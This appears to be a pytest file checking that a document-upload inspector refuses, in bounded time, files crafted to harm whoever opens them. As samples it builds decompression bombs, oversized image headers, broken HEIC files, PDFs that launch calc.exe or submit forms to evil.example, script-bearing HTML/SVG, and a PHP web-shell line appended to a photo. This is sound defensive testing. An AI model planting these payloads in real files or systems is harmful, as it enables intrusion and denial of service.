"""Files that were made to harm whoever opens them: looked into in a process with bounds, and nothing of them is kept."""

import struct
import time
import zlib

import pytest

from casework.actions.letter_box.checking import SECONDS, _inspect
from tests.casework import handed_in


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that says it is this large, with more chunks before its picture of nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in parts
    )


def jpeg_that_says(width: int, height: int) -> bytes:
    """An honest photo whose header says it is this large."""
    photo = handed_in.photo()
    place = photo.index(b"\xff\xc0") + 5
    return photo[:place] + struct.pack(">HH", height, width) + photo[place + 4 :]


def pdf_of(catalogue: bytes, *more: bytes) -> bytes:
    """A PDF written by hand, whose table of contents a reader has to rebuild."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        *more,
    ]
    whole = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (at, body) for at, body in enumerate(bodies, start=1))
    return whole + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n0\n%%%%EOF\n" % (len(bodies) + 1)


BOMB = zlib.compress(b"\0" * 60_000_000, 9)
HOSTILE = {
    "a picture that says it is 50,000 by 50,000": png(50_000, 50_000),
    "one that says it is four thousand million wide": png(2**32 - 1, 1),
    "a photo that says it is 50,000 by 50,000": jpeg_that_says(50_000, 50_000),
    "a text in a picture that unpacks to 60 megabytes": png(10, 10, (b"zTXt", b"Comment\0\0" + BOMB)),
    "a colour profile that unpacks to 60 megabytes": png(10, 10, (b"iCCP", b"x\0\0" + BOMB)),
    "a HEIC with a beginning alone": b"\0\0\0\x1cftypheic\0\0\0\0mif1heic" + b"\0" * 60,
    "a HEIC cut in the middle": handed_in.iphone_photo()[:-200],
    "a HEIC whose boxes say they are endless": b"\0\0\0\x1cftypheic\0\0\0\0mif1heic" + b"\xff\xff\xff\xffmeta" * 50,
    "a PDF that sends a form away": pdf_of(b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
    "a PDF that starts a program when it is left": pdf_of(b"/AA << /WC << /S /Launch /F (calc.exe) >> >>"),
    "a PDF with a script among its names": pdf_of(
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
    ),
    "a PDF with a form of XML": pdf_of(b"/AcroForm << /XFA (<xdp/>) >>"),
    "a web page that begins like a PDF": b"%PDF-<script>alert(1)</script>",
    "a web page called a picture": b"<!DOCTYPE html><script>alert(1)</script>",
    "a drawing with a script called a picture": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_is_refused_in_time(content):
    began = time.monotonic()
    finding = _inspect(content)
    assert (bool(finding.refusal), finding.content) == (True, b"")
    assert time.monotonic() - began < SECONDS


@pytest.mark.parametrize(
    "content",
    [
        pdf_of(b"/A " + b"[" * 100_000),
        pdf_of(b"/Outlines 1 0 R", b"<< /Type /Pages /Kids [2 0 R] >>"),
        handed_in.pdf() + b"\n<script>alert(1)</script>",
        handed_in.photo() + b"<?php system($_GET[0]); ?>",
    ],
    ids=[
        "a hundred thousand brackets",
        "pages that lead to themselves",
        "a script behind a PDF",
        "a program behind a photo",
    ],
)
def test_ends_with_a_verdict_whatever_it_is(content):
    finding = _inspect(content)
    assert bool(finding.refusal) != bool(finding.media_type)
    assert b"<?php" not in finding.content
